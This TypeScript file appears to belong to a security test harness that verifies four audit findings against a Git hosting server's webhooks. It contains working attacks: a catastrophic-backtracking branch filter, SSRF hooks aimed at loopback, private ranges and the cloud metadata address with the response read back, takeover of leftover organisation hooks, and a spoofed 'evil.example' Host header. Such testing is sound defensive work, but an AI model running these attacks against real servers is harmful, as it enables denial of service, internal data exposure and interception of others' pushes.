// Findings 4, 6, 9 and 11: what an account can make the server do through its webhooks.
import { setTimeout as sleep } from 'node:timers/promises';
import { bearer, json, type Account } from '../api.js';
import type { Attack, AttackContext } from '../attack.js';
import { pushOutcome, repoWithFiles, strikeGit, verdict } from '../git-push.js';
import { shortBody } from '../http.js';

/** 21 characters that picomatch turns into nested lazy quantifiers: no 44-character name of a's matches, after ~C(44, 9) tries. */
const BACKTRACKING_FILTER = '*a*a*a*a*a*a*a*a*a*ab';
const BRANCH = 'a'.repeat(44);
const DELIVERY_WAIT_MS = 15_000;

/** A public repository of `owner` with one commit pushed, and the work tree it came from. */
async function pushedRepo(ctx: AttackContext, owner: Account, under = owner.name): Promise<{ name: string; dir: string; url: string }> {
  const name = ctx.unique('hooked');
  await ctx.api.createRepo(owner, name, { under });
  const dir = await ctx.scratch(name);
  await repoWithFiles(ctx.git, dir, { 'README.md': `# ${name}\n` });
  const url = ctx.api.gitUrl(owner, under, name);
  await ctx.git.git(['push', '--quiet', url, 'main'], { cwd: dir });
  return { name, dir, url };
}

async function hookOrFail(
  ctx: AttackContext,
  account: Account,
  scope: string,
  url: string,
  extra: Record<string, unknown> = {},
): Promise<number> {
  const answer = await ctx.api.createHook(account, scope, url, extra);
  if (answer.status !== 201) throw new Error(`creating a hook of ${scope} answered ${answer.status}: ${shortBody(answer.body)}`);
  return json<{ id: number }>(answer).id;
}

const redos: Attack = {
  name: 'hook-filter-redos',
  finding: '4',
  async prepare(ctx) {
    const { attacker } = await ctx.accounts();
    const repo = await pushedRepo(ctx, attacker);
    const saved = await ctx.api.createHook(attacker, `${attacker.name}/${repo.name}`, ctx.receiver.url(repo.name), {
      branch_filter: BACKTRACKING_FILTER,
    });
    const hookAnswer = saved.status === 201 ? 'hook saved' : `hook refused ${saved.status} (${shortBody(saved.body, 50)})`;
    return async (limits) =>
      `${hookAnswer}; push of a ${BRANCH.length}-char branch: ${verdict(await pushOutcome(strikeGit(limits), [repo.url, `main:refs/heads/${BRANCH}`], repo.dir))}`;
  },
};

/** Addresses a hook must not reach: loopback, cloud metadata (link-local), private, CGNAT, IPv6 loopback. */
const FORBIDDEN_TARGETS = ['127.0.0.1', '169.254.169.254', '10.0.0.1', '100.64.0.1', '[::1]'];

const ssrf: Attack = {
  name: 'hook-ssrf',
  finding: '6',
  async prepare(ctx) {
    const { attacker } = await ctx.accounts();
    const repo = await pushedRepo(ctx, attacker);
    const scope = `${attacker.name}/${repo.name}`;
    return async () => {
      const port = new URL(ctx.target.base()).port;
      const refused: string[] = [];
      let loopbackHook: number | undefined;
      for (const host of FORBIDDEN_TARGETS) {
        // The server's own port on loopback: what it answers comes back in the delivery log.
        const url = host === '127.0.0.1' ? `http://${host}:${port}/healthz` : `http://${host}/latest/meta-data/`;
        const answer = await ctx.api.createHook(attacker, scope, url);
        if (answer.status !== 201) refused.push(`${host} ${answer.status}`);
        else if (host === '127.0.0.1') loopbackHook = json<{ id: number }>(answer).id;
      }
      const saved = `${FORBIDDEN_TARGETS.length - refused.length}/${FORBIDDEN_TARGETS.length} hooks saved${refused.length ? ` (refused: ${refused.join(', ')})` : ''}`;
      if (loopbackHook === undefined) return saved;
      return `${saved}; log shows loopback's answer: ${await pingAndReadResponse(ctx, attacker, scope, loopbackHook)}`;
    };
  },
};

/** Pings a hook and returns the response body its delivery log shows, once it is there. */
async function pingAndReadResponse(ctx: AttackContext, account: Account, scope: string, hook: number): Promise<string> {
  const hooks = `/api/v1/repos/${scope}/hooks/${hook}`;
  await ctx.api.call('POST', `${hooks}/pings`, bearer(account.token), undefined, [204]);
  for (const deadline = Date.now() + DELIVERY_WAIT_MS; Date.now() < deadline; await sleep(250)) {
    const list = json<Array<{ id: number }>>(await ctx.api.call('GET', `${hooks}/deliveries`, bearer(account.token), undefined, [200]));
    if (list.length === 0) continue;
    const delivery = json<{ response: { payload: unknown } }>(
      await ctx.api.call('GET', `${hooks}/deliveries/${list[0].id}`, bearer(account.token), undefined, [200]),
    );
    return JSON.stringify(delivery.response.payload).slice(0, 40);
  }
  return 'no delivery logged';
}

const orgHooks: Attack = {
  name: 'org-hooks-outlive-org',
  finding: '9',
  async prepare(ctx) {
    const { attacker, victim } = await ctx.accounts();
    const org = ctx.unique('org');
    await ctx.api.createOrg(victim, org);
    const hookPath = `org-${org}`;
    const hook = await hookOrFail(ctx, victim, `orgs/${org}`, ctx.receiver.url(hookPath));
    const repo = await pushedRepo(ctx, victim, org);
    if (!(await ctx.receiver.waitFor(hookPath, 'push', DELIVERY_WAIT_MS)))
      throw new Error(`the organisation's hook got no delivery of the victim's push within ${DELIVERY_WAIT_MS / 1000} s`);
    await ctx.api.call('DELETE', `/api/v1/repos/${org}/${repo.name}`, bearer(victim.token), undefined, [204]);
    await ctx.api.call('DELETE', `/api/v1/orgs/${org}`, bearer(victim.token), undefined, [204]);
    return async () => {
      // Whoever registers the name next.
      await ctx.api.createOrg(attacker, org);
      const hooks = await ctx.api.send('GET', `/api/v1/orgs/${org}/hooks`, { headers: bearer(attacker.token) });
      const seen = hooks.status === 200 ? json<Array<{ id: number }>>(hooks) : [];
      const deliveries = seen.some((h) => h.id === hook)
        ? json<unknown[]>(
            await ctx.api.call('GET', `/api/v1/orgs/${org}/hooks/${hook}/deliveries`, bearer(attacker.token), undefined, [200]),
          ).length
        : 0;
      const before = ctx.receiver.deliveries.length;
      await pushedRepo(ctx, attacker, org);
      await sleep(3_000);
      const leaked = ctx.receiver.deliveries.slice(before).some((d) => d.path === `/${hookPath}`);
      return `new owner sees ${seen.length} hook(s) (old one: ${seen.some((h) => h.id === hook) ? 'yes' : 'no'}), ${deliveries} old deliveries; old receiver got the new owner's push: ${leaked ? 'yes' : 'no'}`;
    };
  },
};

const hostHeader: Attack = {
  name: 'host-header-payload',
  finding: '11',
  async prepare(ctx) {
    const { attacker } = await ctx.accounts();
    const repo = await pushedRepo(ctx, attacker);
    await hookOrFail(ctx, attacker, `${attacker.name}/${repo.name}`, ctx.receiver.url(repo.name));
    return async (limits) => {
      const pushed = await pushOutcome(strikeGit(limits), [repo.url, 'main:refs/heads/evil'], repo.dir, [
        '-c',
        'http.extraHeader=Host: evil.example',
      ]);
      const delivery = await ctx.receiver.waitFor(repo.name, 'push', DELIVERY_WAIT_MS);
      const payload = delivery?.payload as { repository?: { clone_url?: string; html_url?: string } } | undefined;
      return `push ${verdict(pushed)}; payload clone_url=${payload?.repository?.clone_url ?? '(no delivery)'}`;
    };
  },
};

export const webhookAttacks: Attack[] = [redos, ssrf, orgHooks, hostHeader];
